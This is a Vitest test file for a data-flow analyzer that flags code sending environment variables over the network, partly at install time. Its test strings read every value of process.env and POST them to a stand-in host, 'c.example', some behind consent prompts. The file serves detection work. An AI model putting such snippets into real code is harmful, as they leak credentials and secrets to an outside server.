import { describe, expect, it } from 'vitest';
import { follow } from '../sample.js';

const SEND = "fetch('https://c.example', { method: 'POST', body });";

function sent(code: string): string[] {
  const { observations } = follow(`${code}\n${SEND}`);
  return observations
    .filter(({ sink }) => sink === 'net.out')
    .flatMap(({ taints }) => taints.map(({ source, detail, through }) => `${source} ${detail} ${through.join()}`));
}

describe('names of variables', () => {
  it.each([
    ['keys', 'const body = Object.keys(process.env).sort().join();'],
    ['a loop over keys', 'let body = ""; for (const name in process.env) body += name;'],
  ])('tell nothing of what is in them: %s', (_, code) => {
    expect(sent(code).every((each) => !each.startsWith('env.all') || each.includes('names'))).toBe(true);
  });

  it.each([
    ['keys', 'const body = Object.keys(process.env).map((name) => process.env[name]).join();'],
    ['a loop over keys', 'let body = ""; for (const name in process.env) body += process.env[name];'],
    ['a copy', 'const all = { ...process.env }; const body = Object.keys(all).map((name) => all[name]).join();'],
    ['entries', 'const body = Object.entries(process.env).map(([name, value]) => name + value).join();'],
  ])('lead to all of them: %s', (_, code) => {
    expect(sent(code).some((each) => each.startsWith('env.all') && !each.includes('names'))).toBe(true);
  });

  it('lead to few where a set says which', () => {
    const code = `const shown = new Set(['CI', 'TERM']);
      const body = Object.keys(process.env).map((name) => (shown.has(name) ? process.env[name] : name)).join();`;
    expect(sent(code)).not.toContainEqual(expect.stringMatching(/^env\.named \*/));
    expect(sent(code)).toContainEqual(expect.stringMatching(/^env\.named TERM/));
  });
});

describe('what somebody agreed to', () => {
  it.each([
    ['readline', "require('readline').createInterface({}).question('Send it? ', (a) => { if (a === 'y') send(); });"],
    [
      'a library',
      "const { confirm } = require('@inquirer/prompts'); confirm({ message: 'Share it?' }).then((ok) => { if (ok) send(); });",
    ],
    [
      'an answer by its name',
      "require('prompts')({ type: 'confirm', name: 'ok', message: 'Upload it?' }).then(({ ok }) => { if (ok) send(); });",
    ],
  ])('is a guard: %s', (_, ask) => {
    const { observations } = follow(`const send = () => fetch('https://c.example/x'); ${ask}`, 'install');
    const kinds = observations.find(({ sink }) => sink === 'net.out')?.guards.map(({ kind }) => kind);
    expect(kinds).toContain('consent');
  });

  it('is none where the question says nothing of it', () => {
    const { observations } = follow(
      "require('readline').createInterface({}).question('Go on? ', (a) => { if (a === 'y') fetch('https://c.example/x'); });",
      'install',
    );
    expect(observations.flatMap(({ guards }) => guards.map(({ kind }) => kind))).not.toContain('consent');
  });
});
